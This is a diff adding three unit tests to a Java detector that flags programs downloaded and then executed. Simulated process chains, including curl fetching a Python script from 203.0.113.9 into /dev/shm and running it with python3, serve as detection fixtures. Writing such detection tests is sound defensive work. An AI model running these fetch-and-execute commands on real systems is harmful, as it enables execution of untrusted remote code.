@@ -176,4 +176,28 @@ final class DownloadedProgramDetectorTest implements DetectorContract {
         shell.starts("/bin/sh", "sh", "/srv/report.sh");
         assertThatFindings(findings()).areNone();
     }
+
+    @Test
+    void inspect_nameIsPartOfAnotherName_isQuiet() {
+        Scene.Actor server = scene.starts("/usr/sbin/cron", "cron");
+        server.starts("/bin/sh", "sh", "-c", "curl -s http://203.0.113.9/backup -o /tmp/backup");
+        server.starts("/bin/sh", "sh", "-c", "/tmp/up").starts("/tmp/up", "/tmp/up");
+        assertThatFindings(findings()).areNone();
+    }
+
+    @Test
+    void inspect_interpretersOptionsStandBeforeTheScript_isFound() {
+        Scene.Actor shell = scene.starts("/bin/sh", "sh");
+        shell.starts("/usr/bin/curl", "curl", "-o", "/dev/shm/e.py", "http://203.0.113.9/e.py");
+        shell.starts("/usr/bin/python3", "python3", "-u", "/dev/shm/e.py");
+        assertThatFindings(findings()).show(ID, "program", "/dev/shm/e.py");
+    }
+
+    @Test
+    void inspect_interpreterIsGivenATextThatNamesTheFile_isQuiet() {
+        Scene.Actor shell = scene.starts("/bin/sh", "sh");
+        shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/list", "https://api.example.com/list");
+        shell.starts("/usr/bin/python3", "python3", "-c", "print(open('/tmp/list').read())", "/tmp/list");
+        assertThatFindings(findings()).areNone();
+    }
 }
